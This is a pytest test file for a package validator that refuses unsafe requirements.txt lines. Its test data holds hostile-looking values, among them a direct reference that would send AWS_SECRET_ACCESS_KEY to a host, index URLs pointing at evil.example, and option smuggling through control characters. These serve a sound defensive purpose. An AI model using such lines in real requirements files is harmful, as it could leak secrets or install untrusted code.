"""requirements.txt may only name requirements: each refusal names its line and the fix (DESIGN "★ Environments")."""

from __future__ import annotations

import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from airflow_aicenter.errors import PackageError
from airflow_aicenter.package import validate_package
from airflow_aicenter.package.requirements import check_requirements, check_requirements_file, logical_lines
from tests.conftest import write_files
from tests.packages import ECHO_MAIN

MAIN = ECHO_MAIN


def test_requirements_and_harmless_options_pass() -> None:
    text = (
        "# pinned\n"
        "numpy==2.1.0  # the array library\n"
        "\n"
        "pandas>=2 ; python_version >= '3.10'\n"
        "./wheels/aicenter_tiny-0.1-py3-none-any.whl\n"
        "--pre\n"
        "--only-binary :all:\n"
        "--no-index\n"
        "requests==2.32.0 \\\n"
        "    --hash=sha256:abc\n"
    )
    assert check_requirements(text) == [
        "numpy==2.1.0",
        "pandas>=2 ; python_version >= '3.10'",
        "./wheels/aicenter_tiny-0.1-py3-none-any.whl",
        "--pre",
        "--only-binary :all:",
        "--no-index",
        "requests==2.32.0 --hash=sha256:abc",
    ]


def test_logical_lines_number_from_the_first_physical_line() -> None:
    assert logical_lines("\n# c\na \\\n  b\n\nc # note\n") == [(3, "a b"), (6, "c")]


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("-e ../mylib", "requirements.txt:3: -e is not allowed in requirements.txt: editable installs"),
        ("--editable=git+https://x/y.git#egg=y", "requirements.txt:3: --editable is not allowed"),
        ("-r ../other.txt", "requirements.txt:3: -r ../other.txt is outside the package"),
        ("--requirement /etc/reqs.txt", "requirements.txt:3: --requirement /etc/reqs.txt is outside the package"),
        ("-c/abs/constraints.txt", "requirements.txt:3: -c /abs/constraints.txt is outside the package"),
        ("--constraint=sub/../../c.txt", "requirements.txt:3: --constraint sub/../../c.txt is outside the package"),
        ("-r file:///tmp/r.txt", "requirements.txt:3: -r file:///tmp/r.txt is not a file of the package"),
        ("pkg @ file:///home/me/pkg.whl", "requirements.txt:3: file: URLs reach outside the package"),
        ("/opt/wheels/pkg-1.0-py3-none-any.whl", "requirements.txt:3: /opt/wheels/pkg-1.0-py3-none-any.whl is outside"),
        ("../sibling/pkg", "requirements.txt:3: ../sibling/pkg is outside the package"),
        ("pkg @ ../pkg", "requirements.txt:3: pkg @ ../pkg is a direct reference"),
        ("~/wheels/pkg.whl", "requirements.txt:3: ~/wheels/pkg.whl is outside the package"),
        ("--index-url https://private.example/simple", "requirements.txt:3: --index-url is not allowed"),
        ("-i https://private.example/simple", "requirements.txt:3: -i is not allowed"),
        ("--extra-index-url=https://private.example/simple", "requirements.txt:3: --extra-index-url is not allowed"),
        ("--find-links ./wheels", "requirements.txt:3: --find-links is not allowed"),
        ("-f https://example.org/wheels/", "requirements.txt:3: -f is not allowed"),
        ("--trusted-host private.example", "requirements.txt:3: --trusted-host is not allowed"),
        ("--proxy http://proxy:3128", "requirements.txt:3: option --proxy is not allowed in requirements.txt"),
    ],
)
def test_each_refusal_names_its_line_and_the_fix(line: str, expected: str) -> None:
    with pytest.raises(PackageError) as info:
        check_requirements(f"numpy\n# comment\n{line}\n")
    message = str(info.value)
    assert message.startswith(expected), message
    assert ":" in message.split("requirements.txt:3: ", 1)[1]  # then the fix


@pytest.mark.parametrize(
    ("line", "fix"),
    [
        ("--index-url https://x/simple", "connection extra package_indexes"),
        ("--find-links ./wheels", "name it by relative path (./wheels/x-1.0-py3-none-any.whl)"),
        ("-e ../mylib", "list the package by name and version"),
        ("pkg @ file:///x.whl", "put the file in the package"),
    ],
)
def test_refusals_say_the_fix(line: str, fix: str) -> None:
    with pytest.raises(PackageError, match=fix.replace("(", r"\(").replace(")", r"\)").replace(".", r"\.")):
        check_requirements(line)


def test_included_files_are_checked_by_the_same_rules(tmp_path: Path) -> None:
    write_files(tmp_path, {
        "requirements.txt": "numpy\n-r extra/more.txt\n",
        "extra/more.txt": "pandas\n-c pins.txt\n",
        "extra/pins.txt": "pandas==2.2\n\n--extra-index-url https://private.example/simple\n",
    })
    with pytest.raises(PackageError, match=r"^extra/pins.txt:3: --extra-index-url is not allowed"):
        check_requirements_file(tmp_path)
    (tmp_path / "extra/pins.txt").write_text("pandas==2.2\n")
    assert check_requirements_file(tmp_path) == ["numpy", "-r extra/more.txt"]


def test_an_included_file_that_is_missing_is_named(tmp_path: Path) -> None:
    write_files(tmp_path, {"requirements.txt": "-r more.txt\n"})
    with pytest.raises(PackageError, match=r"^more.txt is missing from the package: add it, or remove the line"):
        check_requirements_file(tmp_path)


def test_requirements_that_are_not_utf8_are_refused(tmp_path: Path) -> None:
    (tmp_path / "requirements.txt").write_bytes(b"caf\xe9\n")
    with pytest.raises(PackageError, match=r"requirements.txt is not valid UTF-8 text .*save it with UTF-8 encoding"):
        check_requirements_file(tmp_path)


def test_validation_refuses_a_package_whose_requirements_reach_outside(tmp_path: Path) -> None:
    root = write_files(tmp_path / "pkg", {"main.py": MAIN, "requirements.txt": "numpy\n--index-url https://evil.example/simple\n"})
    with pytest.raises(PackageError, match=r"^requirements.txt:2: --index-url is not allowed"):
        validate_package(root)
    (root / "requirements.txt").write_text("numpy  # arrays\n\n# nothing else\n")
    assert validate_package(root).requirements == ["numpy"]


# -- issue 18, finding 3: variables, direct references and local projects ---------------------------

@pytest.mark.parametrize(
    ("line", "shown"),
    [
        ("foo @ http://host/${AWS_SECRET_ACCESS_KEY}/foo.whl", "${AWS_SECRET_ACCESS_KEY} "),  # uv expands it and sends the key to host
        ("-r ${HOME}/x.txt", "${"),  # reads a file outside the package
        ("numpy==${NUMPY_VERSION}", "${"),
        ("numpy==$NUMPY_VERSION", "$NUMPY_VERSION "),
        ("numpy==%NUMPY_VERSION%", "%NUMPY_VERSION%"),
        ("--only-binary ${WHICH}", "${"),
        ("numpy  # pinned by ${CI_JOB}", "${"),  # even in a comment: parsers disagree on where comments start
    ],
)
def test_variables_are_refused_with_their_line(line: str, shown: str) -> None:
    with pytest.raises(PackageError) as info:
        check_requirements(f"numpy\n\n{line}\n")
    message = str(info.value)
    assert message.startswith(f"requirements.txt:3: {shown}"), message
    assert "environment variable" in message and "write the value itself" in message


@pytest.mark.parametrize(
    "line",
    [
        "scikit-learn[all] @ https://example.org/scikit_learn-1.5-py3-none-any.whl",
        "name@https://example.org/name-1.0-py3-none-any.whl",
        "tool @ git+https://github.com/org/tool.git@v1#egg=tool",
        "git+https://github.com/org/tool.git",
        "hg+https://example.org/repo",
        "https://example.org/pkg-1.0.tar.gz",
        "https://example.org/pkg-1.0-py3-none-any.whl",
        "http://example.org/pkg-1.0.zip",
        "pkg ; python_version > '3' @ https://example.org/pkg.whl",
    ],
)
def test_direct_references_are_refused(line: str) -> None:
    with pytest.raises(PackageError) as info:
        check_requirements(f"numpy\n# c\n{line}\n")
    message = str(info.value)
    assert message.startswith("requirements.txt:3: "), message
    assert "direct reference" in message and "not pinned by the package index" in message
    assert "publish it to an index named in the connection extra package_indexes" in message
    assert "vendor" in message


@pytest.mark.parametrize(
    "line",
    ["./evilproj", ".", "local @ ./vendor/local", "vendor/local", "./dist/pkg-1.0.tar.gz", "pkg-1.0.tar.gz",
     "./dist/pkg-1.0.zip", "wheels/x.whl[extra]"],
)
def test_local_projects_and_source_archives_are_refused(line: str) -> None:
    """A local source tree or archive runs its own build backend at install: only vendored wheels may be named."""
    with pytest.raises(PackageError) as info:
        check_requirements(f"numpy\n# c\n{line}\n")
    message = str(info.value)
    assert message.startswith("requirements.txt:3: "), message
    assert "build a wheel" in message or "direct reference" in message, message
    assert "package_indexes" in message


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("--no-binary :all:", "requirements.txt:3: --no-binary is not allowed"),
        ("--only-binary :none:", "requirements.txt:3: --only-binary :none: is not allowed"),
        ("--pre --index-url https://evil.example/simple", "requirements.txt:3: one option a line"),
        ("--only-binary=:all: --extra-index-url=https://evil.example/simple", "requirements.txt:3: one option a line"),
        ("-r more.txt --index-url https://evil.example/simple", "requirements.txt:3: one option a line"),
        ("--no-index more", "requirements.txt:3: one option a line"),
        ("numpy --config-settings a=b", "requirements.txt:3: --config-settings may not follow a requirement"),
        ("numpy --global-option=x", "requirements.txt:3: --global-option=x may not follow a requirement"),
        ("numpy==1.0 \\\n  -e ../x", "requirements.txt:3: -e may not follow a requirement"),
        ("numpy --hash=md5", "requirements.txt:3: --hash=md5 is not a hash"),
        ("numpy\x85-e ../x", "requirements.txt:3: control character U+0085"),
        ("numpy\r-e ../x", "requirements.txt:3: control character U+000D"),
        ("numpy\x0c--index-url https://evil.example/simple", "requirements.txt:3: control character U+000C"),
        ("numpy\u2028-e ../x", "requirements.txt:3: control character U+2028"),
        ("[[[", "requirements.txt:3: [[[ is not a requirement"),
        ("numpy==1 \\ --hash=sha256:ab", "requirements.txt:3: a backslash"),
    ],
)
def test_options_that_steer_uv_elsewhere_are_refused(line: str, expected: str) -> None:
    with pytest.raises(PackageError) as info:
        check_requirements(f"numpy\n# c\n{line}\n")
    message = str(info.value)
    assert message.startswith(expected), message
    assert ": " in message[len(expected):]  # then the fix


def test_vendored_wheels_hashes_and_windows_line_ends_pass() -> None:
    text = "./wheels/a-1.0-py3-none-any.whl\r\nwheels/b-1.0-py3-none-any.whl --hash=sha256:AB01\r\n" \
           "numpy==2.1 --hash sha256:ab --hash=sha512:cd\r\n--only-binary=:all:\r\n--only-binary numpy,scipy\r\n"
    assert check_requirements(text) == [
        "./wheels/a-1.0-py3-none-any.whl", "wheels/b-1.0-py3-none-any.whl --hash=sha256:AB01",
        "numpy==2.1 --hash sha256:ab --hash=sha512:cd", "--only-binary=:all:", "--only-binary numpy,scipy",
    ]


def test_a_vendored_wheel_must_be_a_plain_file_of_the_package(tmp_path: Path) -> None:
    """A folder named like a wheel would be built by uv; a missing wheel passes (the operator's pre-check sees
    only the contract files of a stored version; uv names the missing file at install)."""
    write_files(tmp_path, {"requirements.txt": "numpy\n./wheels/a-1.0-py3-none-any.whl\n"})
    assert check_requirements_file(tmp_path) == ["numpy", "./wheels/a-1.0-py3-none-any.whl"]
    (tmp_path / "wheels/a-1.0-py3-none-any.whl").mkdir(parents=True)
    (tmp_path / "wheels/a-1.0-py3-none-any.whl/pyproject.toml").write_text("[project]\nname = 'a'\n")
    with pytest.raises(PackageError, match=r"^requirements.txt:2: ./wheels/a-1.0-py3-none-any.whl is not a file"):
        check_requirements_file(tmp_path)
    shutil.rmtree(tmp_path / "wheels/a-1.0-py3-none-any.whl")
    (tmp_path / "wheels/a-1.0-py3-none-any.whl").symlink_to("/etc/hostname")
    with pytest.raises(PackageError, match=r"^requirements.txt:2: ./wheels/a-1.0-py3-none-any.whl is not a file"):
        check_requirements_file(tmp_path)
    (tmp_path / "wheels/a-1.0-py3-none-any.whl").unlink()
    (tmp_path / "wheels/a-1.0-py3-none-any.whl").write_bytes(b"PK")
    assert check_requirements_file(tmp_path) == ["numpy", "./wheels/a-1.0-py3-none-any.whl"]


# -- issue 18, finding 10: validation is linear, and the file is capped --------------------------------

MIB = 1 << 20
#: Shapes that made the old regular expressions quadratic (or could make a careless parser so), with
#: whether they pass. Each is 1 MiB on one line: a quadratic parser needs hours, a linear one well under a second.
PATHOLOGICAL = {
    "spaces": (" " * MIB, True),
    "tabs": ("\t" * MIB, True),
    "letters": ("a" * MIB, True),
    "comment": ("#" + " " * (MIB - 1), True),
    "spaces-then-hash": ("a" + " " * (MIB - 2) + "#", True),
    "spaces-then-x": ("a" + " " * (MIB - 2) + "x", True),
    "brackets": ("[" * MIB, False),
    "commas": ("," * MIB, False),
    "dollars": ("a" + "$" * (MIB - 1), True),
    "percent-then-name": ("a%" + "b" * (MIB - 2), True),
    "percent-pairs": ("a" + "%%" * (MIB // 2 - 1), True),
    "at-signs": ("@" * MIB, False),
    "backslash-lines": ("a \\\n" * (MIB // 4), True),
    "many-lines": ("a\n" * (MIB // 2), True),
    "option-value": ("-r " + "a" * (MIB - 3), False),
    "hashes": ("a" + " --hash=sha256:ab" * (MIB // 18), True),
    "path": ("./" + "a/" * (MIB // 2 - 1), False),
}


@pytest.mark.parametrize("shape", sorted(PATHOLOGICAL))
def test_validation_is_linear_in_the_size_of_the_file(tmp_path: Path, shape: str) -> None:
    """Run in a subprocess with a timeout: a quadratic validation of 1 MiB would run for hours, not pass slowly."""
    text, passes = PATHOLOGICAL[shape]
    assert len(text.encode()) <= MIB
    write_files(tmp_path, {"requirements.txt": text})
    probe = (
        "import sys\n"
        "from airflow_aicenter.errors import PackageError\n"
        "from airflow_aicenter.package.requirements import check_requirements_file\n"
        "try:\n"
        "    check_requirements_file(__import__('pathlib').Path(sys.argv[1]))\n"
        "except PackageError as e:\n"
        "    print('refused', len(str(e)), str(e)[:300])\n"
        "else:\n"
        "    print('passed')\n"
    )
    done = subprocess.run([sys.executable, "-c", probe, str(tmp_path)], capture_output=True, text=True, timeout=60,
                          check=True)
    verdict = done.stdout.split()[0]
    assert verdict == ("passed" if passes else "refused"), done.stdout
    if verdict == "refused":
        assert int(done.stdout.split()[1]) < 1000, "an error never quotes megabytes of the file back"


def test_requirements_over_one_mib_are_refused_before_they_are_parsed(tmp_path: Path) -> None:
    with pytest.raises(PackageError, match=r"^requirements.txt is 1048577 bytes, over the limit of 1048576 bytes"):
        check_requirements("a" * (MIB + 1))
    write_files(tmp_path, {"requirements.txt": "-r more.txt\n", "more.txt": "#" * (MIB + 1)})
    with pytest.raises(PackageError, match=r"^more.txt is 1048577 bytes, over the limit of 1048576 bytes for a "
                                           r"requirements file .*split"):
        check_requirements_file(tmp_path)
